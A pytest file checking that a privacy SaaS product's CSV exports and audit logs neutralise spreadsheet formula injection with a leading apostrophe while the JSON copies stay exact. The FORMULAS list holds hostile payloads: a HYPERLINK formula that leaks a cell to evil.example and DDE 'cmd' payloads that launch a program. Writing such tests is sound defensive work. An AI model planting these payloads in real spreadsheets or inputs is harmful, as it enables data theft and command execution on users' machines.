"""CSV formula neutralisation (OWASP): every CSV the product writes; the JSON beside it keeps the exact value."""
import csv
import io
import json
import zipfile
from datetime import date

import pytest

from privacy_saas import audit, clock, csvsafe
from privacy_saas.rights import exports as dsr_exports
from tests.helpers import bearer

#: What a tenant (or anyone writing a name) may type, each a formula to a spreadsheet.
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_an_apostrophe(value):
    assert csvsafe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada", "a=b", " =1", "'=1", "", 5, -5, 1.5, None, True])
def test_other_cells_are_left_alone(value):
    assert csvsafe.neutralise(value) == value


def test_return_export_csv_is_neutralised_and_json_exact(app, client, session, org, org_token, make_user,
                                                         monkeypatch, staff_token):
    monkeypatch.setitem(app.config, "JOBS_EAGER", True)
    monkeypatch.setitem(app.config, "REDIS_URL", None)
    for n, formula in enumerate(FORMULAS):
        make_user(org, f"f{n}@example.com", display_name=formula, given_name="Ada")
    org.end_action = "return_then_delete"
    clock.travel_to(date(2026, 11, 23))
    org.end_contract(date(2026, 10, 31))
    session.commit()
    assert client.post("/api/v1/exports", headers=bearer(org_token)).status_code == 202
    [export] = client.get("/api/v1/exports", headers=bearer(org_token)).json
    download = client.get(f"/api/v1/exports/{export['id']}/download", headers=bearer(org_token))
    assert download.status_code == 200, download.get_data(as_text=True)
    archive = zipfile.ZipFile(io.BytesIO(download.data))
    in_csv = {row["email"]: row for row in rows_of(archive.read("registered_users.csv").decode())}
    in_json = {row["email"]: row for row in json.loads(archive.read("registered_users.json"))}
    for n, formula in enumerate(FORMULAS):
        assert in_csv[f"f{n}@example.com"]["display_name"] == "'" + formula
        assert in_json[f"f{n}@example.com"]["display_name"] == formula
        assert in_csv[f"f{n}@example.com"]["given_name"] == "Ada"


def test_audit_csv_is_neutralised_and_json_exact(client, session, staff_token):
    for n, formula in enumerate(FORMULAS):
        audit.record("test.formula", actor=("cli", formula), detail={"n": n})
    session.commit()
    response = client.get("/api/v1/audit.csv?action=test.formula", headers=bearer(staff_token))
    assert response.status_code == 200
    actors = sorted(row["actor_id"] for row in rows_of(response.get_data(as_text=True)))
    assert actors == sorted("'" + f for f in FORMULAS)
    listed = client.get("/api/v1/audit?action=test.formula", headers=bearer(staff_token)).json
    assert sorted(entry["actor_id"] for entry in listed) == sorted(FORMULAS)


def test_data_subject_export_csv_is_neutralised_and_json_exact():
    doc = {"format": "x", "support_requests": [{"subject": formula, "n": -n} for n, formula in enumerate(FORMULAS)]}
    buffer = io.BytesIO()
    dsr_exports.write_zip(doc, buffer)
    archive = zipfile.ZipFile(buffer)
    rows = rows_of(archive.read("support_requests.csv").decode())
    assert [row["subject"] for row in rows] == ["'" + f for f in FORMULAS]
    assert [row["n"] for row in rows] == [str(-n) for n in range(len(FORMULAS))]  # numbers stay numbers
    assert [r["subject"] for r in json.loads(archive.read("subject.json"))["support_requests"]] == FORMULAS


def test_art30_record_csv_is_neutralised(session, make_keyed_tenant):
    from privacy_saas.records import art30, formats

    make_keyed_tenant("formula", name=FORMULAS[0])
    record = art30.record("processor")
    rows = rows_of(formats.render(record, "csv"))
    assert "'" + FORMULAS[0] in {row["controller"] for row in rows}
    assert FORMULAS[0] in {c["name"] for c in json.loads(formats.render(record, "json"))["controllers"]}
